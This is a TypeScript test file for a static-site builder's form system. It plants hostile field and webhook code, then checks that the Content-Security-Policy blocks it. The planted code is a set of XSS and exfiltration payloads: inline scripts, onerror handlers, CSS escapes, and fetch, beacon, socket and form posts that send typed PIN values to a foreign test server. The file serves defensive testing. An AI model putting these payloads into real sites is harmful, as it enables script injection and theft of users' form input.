import { cpSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { smallSalon } from './smallSalon'
import { serveFolder } from '../../src/node/serve/serveFolder'
import { launchBrowser } from '../launchBrowser'
import { HookDouble } from './HookDouble'
import { runCommand as run } from './kindSite'
import { changeSite, pinCode, webhook } from './writeFormKinds'
import { writeKind } from './writeKind'
import { temporaryFolder } from '../temporaryFolder'

const work = temporaryFolder('hostile-kinds')

let [hook, foreign, browser]: [HookDouble, HookDouble, Browser] = [] as never
const out = join(work, 'out')

/** Everything that reaches another server without leaving the page, in markup, styles and script. */
const reachingOut = (address: string) => ({
  view: `import styled from 'styled-components'
export default ({ input }) => (
  <Box>
    <input {...input} />
    <span dangerouslySetInnerHTML={{ __html: '<script>window.inline = 1</script><script src="${address}/a.js"></script><img src="${address}/b.png" onerror="window.handler = 1"><img src="/none.png" onerror="window.handler = 1"><iframe src="${address}/c"></iframe><object data="${address}/d"></object><video src="${address}/e"></video><button form="appointment" formaction="${address}/f">Send</button><style>body { background: url(${address}/g.png) }</style>' }} />
  </Box>
)
const Box = styled.div\`
  color: red;
  &::before { content: '</style><img src="/none.png" onerror="window.style = 1">'; background: url(${address}/h.png); }
\`
`,
  code: `const reach = (name: string, text: string) => {
  fetch('${address}/' + name, { method: 'POST', mode: 'no-cors', body: text }).catch(() => {})
  navigator.sendBeacon('${address}/beacon-' + name, text)
  new Image().src = '${address}/image-' + name
  import('${address}/import-' + name).catch(() => {})
  try { new WebSocket('${address.replace('http', 'ws')}/socket-' + name) } catch {}
  try { new EventSource('${address}/events-' + name) } catch {}
  try { eval('window.evaluated = 1') } catch {}
  try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.injected = 1">') } catch {}
  const form = document.createElement('form')
  Object.assign(form, { action: '${address}/form-' + name, method: 'post', target: '_blank' })
  document.body.append(form)
  form.submit()
  document.body.dataset[name] = ''
}
`,
})

beforeAll(async () => {
  ;[hook, foreign] = [await new HookDouble().start(), await new HookDouble().start()]
  const { view, code } = reachingOut(foreign.address)
  const file = smallSalon(join(work, 'site'))
  writeKind(join(file, '..'), 'pin-code', {
    ...pinCode,
    'View.tsx': view,
    'field.ts': `${code}if (typeof document !== 'undefined') reach('field', '')
export function validate(value: string) {
  reach('typed', value)
  throw new Error('no')
}
export const normalise = (): string => { throw new Error('no') }
`,
  })
  writeKind(join(file, '..'), 'webhook', {
    ...webhook,
    'delivery.ts': `${code}export function body({ values }) {
  reach('sent', JSON.stringify(values))
  throw new Error('no')
}
`,
  })
  changeSite(file, ({ forms }) => {
    const appointment = forms.appointment as (typeof forms)[string]
    appointment.fields = [{ type: 'pin-code', name: 'pin', label: 'PIN code', required: true }]
    appointment.delivery = { type: 'webhook', url: `${hook.address}/in` }
  })
  const { said } = await run('build', '--site', file, '--out', out)
  expect(said).toContain('pages in')
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  hook?.close()
  foreign?.close()
})

/** Fills in the form of a built site and sends it off. Returns what was asked of the foreign server, and what ran. */
async function visit(folder: string): Promise<{ asked: string[]; ran: string[]; bodies: unknown[] }> {
  foreign.requests.length = 0
  hook.requests.length = 0
  const host = await serveFolder(folder, 0, '/')
  const page = await browser.newPage()
  try {
    await page.goto(`${host.url}/appointment`, { waitUntil: 'load' })
    await page.locator('#appointment-pin').fill('452001')
    await page.getByRole('button', { name: 'Ask for an appointment' }).click()
    await page.locator('body[data-field][data-typed][data-sent]').waitFor()
    await page.getByText('Thank you. We answer within one working day.').waitFor()
    await page.waitForLoadState('networkidle')
    const names = ['inline', 'handler', 'style', 'evaluated', 'injected']
    const ran = await page.evaluate((all) => all.filter((name) => name in window), names)
    return { asked: foreign.requests.map(({ path }) => path), ran, bodies: hook.bodies }
  } finally {
    await Promise.all([page.context().close(), host.close()])
  }
}

test('a hostile field and a hostile delivery get nothing past the policy, and the request arrives all the same', async () => {
  const { asked, ran, bodies } = await visit(out)
  expect(asked).toEqual([])
  expect(ran).toEqual([])
  // A check that throws checks nothing, and a body that cannot be made is what was typed.
  expect(bodies).toEqual([{ pin: '452001', reference: expect.stringMatching(/^\w{4}-\w{4}$/) }])
})

test('without the policy they would', async () => {
  const bare = join(work, 'bare')
  cpSync(out, bare, { recursive: true })
  for (const name of readdirSync(bare, { recursive: true }) as string[]) {
    if (name === '_headers') rmSync(join(bare, name))
    if (!name.endsWith('.html')) continue
    const html = readFileSync(join(bare, name), 'utf8')
    writeFileSync(join(bare, name), html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, ''))
  }
  const { asked, ran } = await visit(bare)
  expect(asked).toEqual(expect.arrayContaining(['/b.png', '/field', '/typed', '/sent', '/form-field', '/image-sent']))
  expect(ran).toEqual(expect.arrayContaining(['inline', 'handler', 'evaluated']))
})
